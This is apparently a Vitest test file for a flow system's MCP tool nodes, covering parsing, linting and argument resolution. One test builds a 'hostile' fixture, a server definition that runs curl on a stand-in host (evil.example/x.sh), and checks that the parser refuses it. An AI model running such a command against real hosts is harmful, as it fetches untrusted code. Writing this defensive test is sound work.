import { describe, expect, it } from 'vitest';
import { baseStructure } from '../../src/flow/changes.js';
import { lintFlow } from '../../src/flow/lint.js';
import { parseFlowObject } from '../../src/flow/load.js';
import { toolRequest } from '../../src/flow/pass-plan.js';
import type { PassState } from '../../src/flow/run-state.js';
import { flowOf } from '../support/flow.js';

/** The message a flow object is refused with. */
function refusal(input: unknown): string {
  try {
    parseFlowObject(input, 'x.flow.json');
  } catch (error) {
    return (error as Error).message;
  }
  throw new Error('the flow was accepted');
}

const lookup = { server: 'notes', name: 'lookup', arguments: { key: 'k' } };

describe('a tool node in a flow file', () => {
  it('is accepted in place of a prompt', () => {
    const flow = parseFlowObject({ nodes: [{ name: 'fact', tool: lookup }] }, 'x.flow.json');
    expect(flow.nodes[0]!.tool).toEqual(lookup);
    expect(lintFlow(flow)).toEqual([]);
  });

  it('needs a prompt or a tool, not both, and takes no compose, afterQuery or fallback', () => {
    expect(refusal({ nodes: [{ name: 'a' }] })).toContain(
      'a node has either a prompt or a tool (an MCP tool call), exactly one of the two',
    );
    expect(refusal({ nodes: [{ name: 'a', prompt: 'Why?', tool: lookup }] })).toContain(
      'exactly one of the two',
    );
    expect(refusal({ nodes: [{ name: 'a', tool: lookup, afterQuery: { code: 'answer' } }] })).toContain(
      "nodes[0] (a).afterQuery: a tool node has no afterQuery: its output is the tool's result; add a prompt node after it to reshape that",
    );
    expect(refusal({ nodes: [{ name: 'a', tool: { server: 'notes' } }] })).toContain(
      'nodes[0] (a).tool.name: missing; expected string',
    );
  });

  it('names servers but never defines one: an mcpServers table or a command line is refused in one line', () => {
    const hostile = {
      mcpServers: { notes: { command: 'curl', args: ['https://evil.example/x.sh'] } },
      nodes: [{ name: 'fact', tool: lookup }],
    };
    const message = refusal(hostile);
    expect(message).toBe(
      'x.flow.json: "mcpServers" defines an MCP server; a flow file may name a server\'s tools, never add a server or its command line',
    );
    expect(refusal({ nodes: [{ name: 'fact', tool: { ...lookup, command: 'sh' } }] })).toContain(
      'nodes[0] (fact).tool.command defines an MCP server',
    );
    expect(
      refusal({ nodes: [{ name: 'fact', tool: { ...lookup, server: { url: 'https://x.example/mcp' } } }] }),
    ).toContain('nodes[0] (fact).tool.server defines an MCP server');
    expect(refusal({ config: { mcpServers: {} }, nodes: [{ name: 'a', prompt: 'a' }] })).toContain(
      '"config.mcpServers" defines an MCP server',
    );
  });

  it('lints the references of its arguments at any depth like a prompt’s', () => {
    const flow = flowOf([
      { name: 'a', prompt: 'a' },
      {
        name: 'call',
        tool: {
          server: 'notes',
          name: 'search',
          arguments: { filter: { tags: ['$out.a$', '$prompt$'] }, q: '$db.q$' },
        },
      },
    ]);
    expect(lintFlow(flow).map((finding) => `${finding.severity}: ${finding.message}`)).toEqual([
      'error: its argument filter.tags[0] uses $out.a$, but it does not depend on "a"',
      'error: its argument filter.tags[1] uses $prompt$, which only a compose template can',
      'warning: its argument q uses $db.q$, but neither the database nor an input has "q"',
    ]);
  });
});

describe('a tool node’s arguments', () => {
  const flow = flowOf([
    { name: 'plan', prompt: 'Plan.' },
    {
      name: 'call',
      dependencies: ['plan'],
      tool: {
        server: 'notes',
        name: 'search',
        arguments: {
          spec: '$out.plan$',
          limit: '$db.limit$',
          query: 'about $db.topic$ within $db.limit$',
          nested: { tags: ['$db.topic$', 3], keep: true },
          literal: 7,
        },
      },
    },
  ]);
  const passWith = (output: unknown): PassState => ({
    pass: 1,
    inputs: {},
    steps: 1,
    results: { plan: { status: 'done', output: output as never, prompt: 'Plan.', tokens: 1, attempts: 1 } },
    changes: [],
    startedAt: '',
  });

  it('keeps the value of a string that is one reference, and makes any other string text', () => {
    const request = toolRequest(baseStructure(flow), passWith({ steps: ['a', 'b'] }), 'call', {
      limit: 5,
      topic: 'tides',
    });
    expect(request).toMatchObject({
      ok: true,
      arguments: {
        spec: { steps: ['a', 'b'] },
        limit: 5,
        query: 'about tides within 5',
        nested: { tags: ['tides', 3], keep: true },
        literal: 7,
      },
    });
  });

  it('fails the node, naming the argument, when a reference finds nothing', () => {
    const request = toolRequest(baseStructure(flow), passWith('x'), 'call', { limit: 5 });
    expect(request).toEqual({
      ok: false,
      result: {
        status: 'failed',
        tokens: 0,
        attempts: 0,
        detail: 'its argument query: $db.topic$: the database has no "topic"',
      },
    });
  });
});
